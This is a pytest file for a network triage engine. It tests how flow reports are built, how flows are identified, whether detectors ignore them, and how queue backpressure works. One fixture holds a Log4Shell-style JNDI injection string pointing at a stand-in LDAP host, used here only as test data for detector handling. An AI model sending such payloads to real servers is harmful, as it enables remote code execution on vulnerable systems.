from __future__ import annotations

from typing import Any

import pytest

from engine.community_id import community_id
from engine.config import Settings
from engine.edge.view import BusyError
from engine.parts import load_detectors
from engine.sources.event import parse
from engine.triage import SEEN_FLOWS, WAITING_EVENTS, Triage, update_of, updates_of
from engine.types import FlowState, UpdateReason
from tests.factories import flow

EVENT = parse("2023-10-09T11:23:00Z 10.0.0.5:1024 203.0.113.9:443 name content")


def test_a_report_is_a_flow_with_its_ends_and_not_one_packet() -> None:
    update = update_of(EVENT)
    flow = update.flow
    assert (update.reason, update.event, update.at) == (UpdateReason.REPORT, EVENT, EVENT.at)
    assert (flow.packets, flow.head, flow.state, flow.handshake) == ((0, 0), (b"", b""), FlowState.NEW, False)
    assert flow.id == community_id(6, bytes([10, 0, 0, 5]), 1024, bytes([203, 0, 113, 9]), 443)


def test_two_reports_of_one_connection_are_told_apart() -> None:
    other = parse("2023-10-09T11:23:00Z 10.0.0.5:1024 203.0.113.9:443 other content")
    assert update_of(EVENT).flow.iface != update_of(other).flow.iface


def test_what_this_host_saw_goes_with_a_report_and_no_detector_judges_it() -> None:
    report, *others = updates_of(EVENT, [flow(head=(b"${jndi:ldap://203.0.113.9/a}", b""))] * (SEEN_FLOWS + 1))
    assert (report.event, len(others)) == (EVENT, SEEN_FLOWS)
    judges = [*load_detectors(Settings(), 0.0).for_source()]
    assert [found for update in others for judge in judges for found in judge.inspect(update)] == []


async def test_one_event_too_many_is_told_to_come_later_and_none_is_counted_twice() -> None:
    class Refusing:
        async def check_model(self, name: str) -> None:
            raise LookupError(name)

    parts: Any = Refusing()
    triage = Triage(parts, parts, parts, parts)
    with pytest.raises(LookupError):
        await triage.take(EVENT, (), parts, "none", None)
    assert triage.fill() == (0, WAITING_EVENTS)
    triage._waiting = WAITING_EVENTS
    with pytest.raises(BusyError, match="wait for their verdict"):
        await triage.take(EVENT, (), parts, "", None)
